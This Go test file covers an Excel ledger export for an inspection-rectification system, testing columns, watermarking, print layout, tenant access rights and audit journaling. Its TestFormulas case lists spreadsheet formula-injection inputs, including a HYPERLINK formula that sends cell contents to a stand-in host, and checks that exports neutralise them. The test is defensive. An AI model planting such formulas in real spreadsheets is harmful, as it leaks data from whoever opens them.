package documents_test

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"xuncha/inspection"
	"xuncha/inspection/documents"
	"xuncha/inspection/linkage"
	"xuncha/inspection/rectification"
	"xuncha/tenants"
	"xuncha/tenants/tenantstest"
)

// house is a test's database with what is printed from it.
type house struct {
	*tenantstest.House
	documents *documents.Service
	office    tenants.Tenant
	round     inspection.RoundID
	water     inspection.UnitID
	edu       inspection.UnitID
	off       tenants.Scope
}

func newHouse(t *testing.T) *house {
	t.Helper()
	h := &house{House: tenantstest.New(t)}
	clock := inspection.ClockAt(tenantstest.Now)
	calendar := inspection.PublishedCalendar()
	cases := &rectification.Service{DB: h.DB, Clock: clock, Calendar: calendar}
	h.documents = &documents.Service{
		DB: h.DB, Clock: clock, Cases: cases,
		Linkage: &linkage.Service{DB: h.DB, Clock: clock, Calendar: calendar, Cases: cases},
	}
	h.office = h.County[0][0]
	h.round = h.Round(h.office)
	h.water, h.edu = h.Unit(h.office, "县水务局党组"), h.Unit(h.office, "县教育局党组")
	h.off = h.As(h.office, tenants.OFF)
	return h
}

// put writes a problem with its measures past the services. A problem that is not
// issued is a draft.
func (h *house) put(unit inspection.UnitID, seq int, text string, amount int64, issued bool, measures ...string) inspection.FindingID {
	id := inspection.NewID[inspection.FindingID]()
	at := "now()"
	if !issued {
		at = "null"
	}
	h.Root(`insert into findings (tenant_id, id, number, round_id, unit_id, seq, focus, category, text, amount_fen, issued_at, feedback_on)
		values ($1, $2, $3, $4, $5, $6, 1, '理论武装', $7, nullif($8, 0), `+at+`, '2026-07-10')`,
		h.office.ID, id, fmt.Sprintf("%s-01-01-%03d", h.office.Prefix, seq), h.round, unit, seq, text, amount)
	h.Root(`insert into rectifications (tenant_id, finding_id, unit_id, state, due_on, flags, issued_at, changed_at, changed_by)
		values ($1, $2, $3, 'working', '2026-10-15', '{doubt}', `+at+`, '2026-11-19T09:00:00+08:00', '某人')`, h.office.ID, id, unit)
	for i, m := range measures {
		h.Root(`insert into measures (tenant_id, id, finding_id, unit_id, seq, text, leader, department, due_on, issued_at)
			values ($1, gen_random_uuid(), $2, $3, $4, $5, '责任领导甲', '规划科', '2026-09-30', `+at+`)`, h.office.ID, id, unit, i+1, m)
	}
	return id
}

func (h *house) export(t *testing.T, scope tenants.Scope, f rectification.Filter, w documents.Wish) workbook {
	t.Helper()
	f.Sort = "number"
	file, err := h.documents.Ledger(t.Context(), scope, f, w)
	if err != nil {
		t.Fatal(err)
	}
	return open(t, file)
}

// workbook is a file read back.
type workbook struct {
	*excelize.File
	t     *testing.T
	sheet string
	name  string
	bytes []byte
}

func open(t *testing.T, file documents.File) workbook {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(file.Content))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = f.Close() })
	return workbook{f, t, f.GetSheetList()[0], file.Name, file.Content}
}

// rows are the rows below the header.
func (w workbook) rows() [][]string {
	w.t.Helper()
	all, err := w.GetRows(w.sheet)
	if err != nil {
		w.t.Fatal(err)
	}
	return all[3:]
}

// column is one column below the header, by its title.
func (w workbook) column(title string) []string {
	w.t.Helper()
	all, err := w.GetRows(w.sheet)
	if err != nil {
		w.t.Fatal(err)
	}
	at := slices.Index(all[2], title)
	if at < 0 {
		w.t.Fatalf("no column %s in %v", title, all[2])
	}
	var values []string
	for _, row := range all[3:] {
		values = append(values, append(row, make([]string, at+1)...)[at])
	}
	return values
}

// part is a part of the file as it is stored.
func (w workbook) part(name string) string {
	w.t.Helper()
	z, err := zip.NewReader(bytes.NewReader(w.bytes), int64(len(w.bytes)))
	if err != nil {
		w.t.Fatal(err)
	}
	f, err := z.Open(name)
	if err != nil {
		w.t.Fatal(err)
	}
	b, err := io.ReadAll(f)
	if err != nil {
		w.t.Fatal(err)
	}
	return string(b)
}

// TestShown takes the columns on screen out, in their order: a line per measure, as
// on screen, and sums said once.
func TestShown(t *testing.T) {
	t.Parallel()
	h := newHouse(t)
	h.put(h.water, 1, "问题一", 123456, true, "措施甲", "措施乙")
	h.put(h.edu, 2, "问题二", 0, true)
	w := h.export(t, h.off, rectification.Filter{}, documents.Wish{Columns: []string{"number", "measure", "amount", "left", "state", "due"}})
	want := [][]string{
		{"KAA-01-01-001", "措施甲", "1,234.56", "逾期 36 天", "整改中、存疑待核", "2026-10-15"},
		{"KAA-01-01-001", "措施乙", "", "逾期 36 天", "整改中、存疑待核", "2026-10-15"},
		{"KAA-01-01-002", "", "", "逾期 36 天", "整改中、存疑待核", "2026-10-15"},
	}
	if diff := cmp.Diff(want, w.rows()); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	problems := h.export(t, h.off, rectification.Filter{Unit: h.water}, documents.Wish{Columns: []string{"text", "number"}})
	if diff := cmp.Diff([][]string{{"问题一", "KAA-01-01-001"}}, problems.rows()); diff != "" {
		t.Errorf("one unit's problems (-want +got):\n%s", diff)
	}
	for name, columns := range map[string][]string{"none": nil, "unknown": {"number", "secret"}, "twice": {"number", "number"}} {
		_, err := h.documents.Ledger(t.Context(), h.off, rectification.Filter{}, documents.Wish{Columns: columns})
		if inspection.CodeOf(err) != "export.columns" {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// TestFormulas puts everything that programs take for a formula into the ledger.
// The file has not one formula, and every text as it was.
func TestFormulas(t *testing.T) {
	t.Parallel()
	h := newHouse(t)
	evil := []string{
		`=HYPERLINK("http://x.invalid?"&A1,"点")`, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1", "\u200b=1+1", "＝1+1", "|1+1", "%1+1", "普通问题",
	}
	for i, text := range evil {
		h.put(h.water, i+1, text, 0, true, text)
	}
	for _, form := range documents.Forms() {
		w := h.export(t, h.off, rectification.Filter{}, documents.Wish{Form: form, Columns: []string{"number", "text", "measure"}})
		sheet := w.part("xl/worksheets/sheet1.xml")
		if strings.Contains(sheet, "<f>") || strings.Contains(sheet, "<f ") {
			t.Errorf("%s: a formula in the sheet", form)
		}
		for i, got := range w.column("反馈问题") {
			if strings.ReplaceAll(got, "\n", "\r") != strings.ReplaceAll(evil[i], "\n", "\r") {
				t.Errorf("%s: %q became %q", form, evil[i], got)
			}
			cell, _ := excelize.CoordinatesToCellName(columnAt(t, w, "反馈问题"), i+4)
			id, err := w.GetCellStyle(w.sheet, cell)
			if err != nil {
				t.Fatal(err)
			}
			quoted := w.Styles.CellXfs.Xf[id].QuotePrefix
			if held := quoted != nil && *quoted; held != (i < len(evil)-1) {
				t.Errorf("%s: %q is held as text: %t", form, evil[i], held)
			}
		}
	}
}

func columnAt(t *testing.T, w workbook, title string) int {
	t.Helper()
	all, err := w.GetRows(w.sheet)
	if err != nil {
		t.Fatal(err)
	}
	return slices.Index(all[2], title) + 1
}

// TestMark finds in the file who took it out, for which office, and when: in a
// row, on every printed page and in its properties.
func TestMark(t *testing.T) {
	t.Parallel()
	h := newHouse(t)
	h.put(h.water, 1, "问题一", 0, true, "措施甲")
	w := h.export(t, h.off, rectification.Filter{}, documents.Wish{Form: documents.Report})
	row, err := w.GetCellValue(w.sheet, "A2")
	if err != nil {
		t.Fatal(err)
	}
	props, err := w.GetDocProps()
	if err != nil {
		t.Fatal(err)
	}
	print, err := w.GetHeaderFooter(w.sheet)
	if err != nil {
		t.Fatal(err)
	}
	id := props.Identifier
	if len(id) != 36 || props.Creator != h.off.Name() {
		t.Errorf("properties %+v", props)
	}
	for place, text := range map[string]string{"row": row, "properties": props.Description} {
		for _, want := range []string{h.off.Name(), h.office.Short, "2026-11-20 10:00", id, "内部"} {
			if !strings.Contains(text, want) {
				t.Errorf("%s: %q lacks %q", place, text, want)
			}
		}
	}
	if !strings.Contains(print.OddHeader, h.off.Name()) || !strings.Contains(print.OddHeader, "2026-11-20 10:00") ||
		!strings.Contains(print.OddFooter, id) || !strings.Contains(print.OddFooter, "第 &P 页 共 &N 页") {
		t.Errorf("printed: %q, %q", print.OddHeader, print.OddFooter)
	}
	if w.name != "某地990121-整改台账（上报格式）-20261120-1000.xlsx" {
		t.Errorf("file %s", w.name)
	}
}

// TestReportPage sees that the form for reporting upward prints as such ledgers
// do: A3 across, as wide as the paper, the header on every page, merged cells.
func TestReportPage(t *testing.T) {
	t.Parallel()
	h := newHouse(t)
	h.put(h.water, 1, "问题一", 100, true, "措施甲", "措施乙")
	h.put(h.water, 2, "问题二", 0, true, "措施丙")
	w := h.export(t, h.off, rectification.Filter{}, documents.Wish{Form: documents.Report})
	page, err := w.GetPageLayout(w.sheet)
	if err != nil {
		t.Fatal(err)
	}
	if *page.Size != 8 || *page.Orientation != "landscape" || *page.FitToWidth != 1 || *page.FitToHeight != 0 {
		t.Errorf("paper %d %s %d %d", *page.Size, *page.Orientation, *page.FitToWidth, *page.FitToHeight)
	}
	panes, err := w.GetPanes(w.sheet)
	if err != nil || !panes.Freeze || panes.XSplit != 3 || panes.YSplit != 3 {
		t.Errorf("panes %+v, %v", panes, err)
	}
	if names := w.GetDefinedName(); len(names) != 1 || names[0].RefersTo != "'整改台账'!$3:$3" {
		t.Errorf("names %+v", names)
	}
	merged, err := w.GetMergeCells(w.sheet)
	if err != nil {
		t.Fatal(err)
	}
	var ranges []string
	for _, m := range merged {
		ranges = append(ranges, m.GetStartAxis()+":"+m.GetEndAxis())
	}
	if !slices.Contains(ranges, "C4:C5") || slices.Contains(ranges, "G4:G5") || len(ranges) != 8 {
		t.Errorf("merged %v", ranges)
	}
}

// TestPaper sees that a list can be read on paper: what is wide goes on A3, days left
// are numbers that sort, and merged rows share the lines of what stands in them.
func TestPaper(t *testing.T) {
	t.Parallel()
	h := newHouse(t)
	h.put(h.water, 1, strings.Repeat("问题", 60), 100, true, "措施甲", "措施乙")
	for form, want := range map[documents.Form]int{documents.Shown: 9, documents.All: 8} {
		w := h.export(t, h.off, rectification.Filter{}, documents.Wish{Form: form, Columns: []string{"number", "left"}})
		page, err := w.GetPageLayout(w.sheet)
		if err != nil {
			t.Fatal(err)
		}
		if *page.Size != want {
			t.Errorf("%s: paper %d, want %d", form, *page.Size, want)
		}
		if form != documents.Shown {
			continue
		}
		if raw, err := w.GetCellValue(w.sheet, "B4", excelize.Options{RawCellValue: true}); raw != "-36" || err != nil {
			t.Errorf("36 days overdue is %q, %v", raw, err)
		}
	}
	w := h.export(t, h.off, rectification.Filter{}, documents.Wish{Form: documents.Report})
	for row, want := range map[int]float64{4: 3*16 + 3, 5: 3*16 + 3} { // 120 characters in a column for 48 digits
		if got, err := w.GetRowHeight(w.sheet, row); got != want || err != nil {
			t.Errorf("row %d is %v high, want %v (%v)", row, got, want, err)
		}
	}
}

// TestRights exports as everybody: the office takes out all rows, a unit its own and
// the city those of the county, once they are issued, and nobody a stranger's.
func TestRights(t *testing.T) {
	t.Parallel()
	h := newHouse(t)
	h.put(h.water, 1, "水务的问题", 0, true, "措施甲")
	h.put(h.edu, 2, "教育的问题", 0, true, "措施乙")
	h.put(h.water, 3, "尚未反馈的问题", 0, false, "措施丙")
	city := h.As(h.City[0], tenants.CITY)
	below, err := city.Below(h.office)
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name  string
		scope tenants.Scope
		want  []string
	}{
		{"the office", h.off, []string{"水务的问题", "教育的问题", "尚未反馈的问题"}},
		{"a unit", h.As(h.office, tenants.UNIT, h.water), []string{"水务的问题"}},
		{"the city, looking below", below, []string{"水务的问题", "教育的问题"}},
		{"the city itself", city, nil},
		{"another county", h.As(h.County[0][1], tenants.OFF), nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			for _, form := range documents.Forms() {
				w := h.export(t, tt.scope, rectification.Filter{}, documents.Wish{Form: form, Columns: []string{"number", "text"}})
				if diff := cmp.Diff(tt.want, w.column("反馈问题")); diff != "" {
					t.Errorf("%s (-want +got):\n%s", form, diff)
				}
			}
		})
	}
}

// said is what an office's journal says of exports, and whether of this file.
func (h *house) said(office tenants.Tenant, w workbook) (all []string) {
	w.t.Helper()
	props, err := w.GetDocProps()
	if err != nil {
		w.t.Fatal(err)
	}
	h.Do(h.Jobs, tenants.ForJob(office, "test"), func(tx *tenants.Tx) error {
		rows, err := tx.Query(w.t.Context(), `select object_id::text, action, coalesce(detail ->> 'text', '') from journal
			where tenant_id = current_tenant() and object = 'export' order by seq`)
		if err != nil {
			return err
		}
		defer rows.Close()
		for rows.Next() {
			var id, action, text string
			if err := rows.Scan(&id, &action, &text); err != nil {
				return err
			}
			if id == props.Identifier {
				action += " of the file"
			}
			all = append(all, action+": "+text)
		}
		return rows.Err()
	})
	return all
}

// TestJournal finds one entry for each export, and one in the office whose rows
// were taken out from above.
func TestJournal(t *testing.T) {
	t.Parallel()
	h := newHouse(t)
	h.put(h.water, 1, "问题一", 0, true, "措施甲", "措施乙")
	below, err := h.As(h.City[0], tenants.CITY).Below(h.office)
	if err != nil {
		t.Fatal(err)
	}
	wish := documents.Wish{Columns: []string{"number", "measure"}, Asked: "state=working"}
	w := h.export(t, h.off, rectification.Filter{}, wish)
	h.export(t, below, rectification.Filter{}, wish)
	text := "1 个问题，共 2 行；列：编号、整改措施；筛选：state=working"
	want := []string{"ledger.export of the file: " + text, "ledger.export-above: " + h.City[0].Short}
	if diff := cmp.Diff(want, h.said(h.office, w)); diff != "" {
		t.Errorf("the county's journal (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff([]string{"ledger.export: " + text}, h.said(h.City[0], w)); diff != "" {
		t.Errorf("the city's journal (-want +got):\n%s", diff)
	}
}

// TestNoEntry breaks the journal: no file leaves that it does not say.
func TestNoEntry(t *testing.T) {
	t.Parallel()
	h := newHouse(t)
	h.put(h.water, 1, "问题一", 0, true)
	h.export(t, h.off, rectification.Filter{}, documents.Wish{Form: documents.All})
	h.Root(`alter function sec.journal_append rename to journal_append_gone`)
	file, err := h.documents.Ledger(t.Context(), h.off, rectification.Filter{}, documents.Wish{Form: documents.All})
	if err == nil || file.Content != nil {
		t.Errorf("%d bytes, %v", len(file.Content), err)
	}
}
